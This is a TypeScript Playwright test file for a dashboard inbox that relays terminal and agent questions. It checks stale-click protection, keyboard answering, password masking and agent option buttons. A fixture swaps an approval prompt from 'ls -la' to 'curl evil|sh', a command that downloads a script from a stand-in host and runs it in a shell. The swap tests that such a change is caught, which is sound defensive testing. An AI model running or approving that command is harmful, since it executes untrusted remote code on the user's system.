import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { AgentHome } from '../integration/agents/asking-agent.js';
import { type OpenDashboard, openDashboard } from './open-dashboard.js';

let dashboard: OpenDashboard;
beforeAll(async () => {
  dashboard = await openDashboard();
});
afterAll(() => dashboard?.[Symbol.asyncDispose]());

/** Starts a run on the server of the test and gives its id. */
async function start(command: string): Promise<string> {
  const input = { command, host: dashboard.host, login: false, interactive: false };
  return (await dashboard.open.call('run.start', input)).id;
}

/** Only where somebody wants to look at them. */
async function picture(page: Page, name: string): Promise<void> {
  const folder = process.env.MUXWRIGHT_PICTURES;
  if (folder) await page.screenshot({ path: join(folder, `${name}.png`) });
}

const asking = fileURLToPath(
  new URL('../integration/server/fixtures/changing-question.mjs', import.meta.url),
);

/** A run that asks about a command, and about another one at a signal. */
async function startAsking(form: string): Promise<{
  readonly id: string;
  change(): Promise<void>;
  answers(): Promise<unknown[]>;
}> {
  const folder = await mkdtemp(join(tmpdir(), 'muxwright-asking-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const log = join(folder, 'answers.jsonl');
  const told = { log, form, commands: ['ls -la', 'curl evil|sh'] };
  const id = await start(`exec '${process.execPath}' '${asking}' '${JSON.stringify(told)}'`);
  return {
    id,
    async change() {
      const { tmux } = dashboard.open.here.server;
      const { stdout } = await tmux.host.run(['pgrep', '-f', `changing-question.mjs .*${log}`]);
      process.kill(Number(stdout.toString().trim().split('\n')[0]), 'SIGUSR2');
      const { paneId } = await dashboard.open.call('run.status', { run: id });
      await tmux.pane(paneId).waitForText('curl evil|sh');
    },
    async answers() {
      const text = await readFile(log, 'utf8').catch(() => '');
      return text.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line)]));
    },
  };
}

describe('the inbox', () => {
  it.each([
    ['line', 'Yes', 'No', 'N'],
    ['menu', 'Yes', 'No, leave it', 'No, leave it'],
  ])(
    'does not answer a question of the form %s that changed before the click',
    async (form, yes, no, answer) => {
      const run = await startAsking(form);
      const page = await dashboard.signedIn();
      await page.goto(`${dashboard.open.url}/inbox`);
      const question = page.getByRole('region', { name: 'changing-question.mjs', exact: true });
      await question.getByText('ls -la').first().waitFor();
      const button = question.getByRole('button', { name: yes });
      await button.waitFor();
      await picture(page, `inbox-${form}`);
      await run.change();
      const changed = question.getByRole('alert').getByText('has changed');
      // The page may have noticed it before the click, and then has no such button any more.
      await button.or(changed).first().waitFor();
      // A click that still waits for its button would press the one that comes when the question was read.
      await Promise.all([button.click({ timeout: 2_000 }).catch(() => {}), changed.waitFor()]);
      await question.locator('pre').getByText('curl evil|sh').waitFor();
      await picture(page, `inbox-${form}-changed`);
      expect(await run.answers()).toEqual([]);
      expect(await button.count()).toBe(0);
      await question.getByRole('button', { name: 'I have read it' }).click();
      await question.getByRole('button', { name: no }).click();
      await expect
        .poll(() => run.answers(), { timeout: 60_000 })
        .toEqual([{ answer, command: 'curl evil|sh' }]);
      await page.getByRole('heading', { name: 'Nothing needs your answer' }).waitFor();
    },
  );

  it('lets a person answer by keyboard alone, and tells in the title how many wait', async () => {
    const run = await start('printf "Your name? "; read -r name; echo "Hello, $name."');
    const page = await dashboard.signedIn();
    await page.goto(`${dashboard.open.url}/inbox`);
    await page.getByRole('button', { name: /Your name\?/ }).waitFor();
    await expect.poll(() => page.title()).toBe('(1) Inbox · muxwright');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    const box = page.getByRole('textbox', { name: 'Answer to: Your name?' });
    await box.and(page.locator(':focus')).waitFor();
    await page.keyboard.type('Ada');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Nothing needs your answer' }).waitFor();
    await dashboard.open.call('run.wait', { run, timeoutMs: 60_000 });
    const { lines } = await dashboard.open.call('run.output', { run });
    expect(lines.at(-1).text).toBe('Hello, Ada.');
    await expect.poll(() => page.title()).toBe('Inbox · muxwright');
  });

  it('hides a password in its box, and from all that is kept', async () => {
    const run = await start('stty -echo; printf "Password: "; read -r secret; stty echo; echo "got $secret"');
    const page = await dashboard.signedIn();
    await page.goto(`${dashboard.open.url}/inbox`);
    const box = page.getByLabel('Hidden answer to: Password:');
    await box.waitFor();
    expect(await box.getAttribute('type')).toBe('password');
    await box.fill('correct horse');
    await box.press('Enter');
    await dashboard.open.call('run.wait', { run, timeoutMs: 60_000 });
    const { lines } = await dashboard.open.call('run.output', { run });
    expect(JSON.stringify(lines)).not.toContain('correct horse');
  });

  it('offers the options of an agent as buttons, and the agent gets the one that was pressed', async () => {
    await using home = await AgentHome.make();
    const ask = { title: 'Which colour do you want?', options: ['Red', 'Blue', 'Green'] };
    const agent = await home.start(dashboard.open.here.server, { ask, atOnce: true });
    await dashboard.open.call('agent.register', {
      target: agent.pane.id,
      host: dashboard.host,
      name: 'painter',
    });
    const page = await dashboard.signedIn();
    await page.goto(`${dashboard.open.url}/inbox`);
    const question = page.getByRole('region', { name: 'painter', exact: true });
    const blue = question.getByRole('button', { name: 'Blue' });
    await blue.click();
    await expect
      .poll(() => agent.told(), { timeout: 120_000 })
      .toContainEqual(expect.objectContaining({ chosen: 'Blue' }));
    await blue.waitFor({ state: 'detached' });
    await dashboard.open.call('agent.remove', { agent: 'painter' });
    await agent.pane.kill();
  });
});
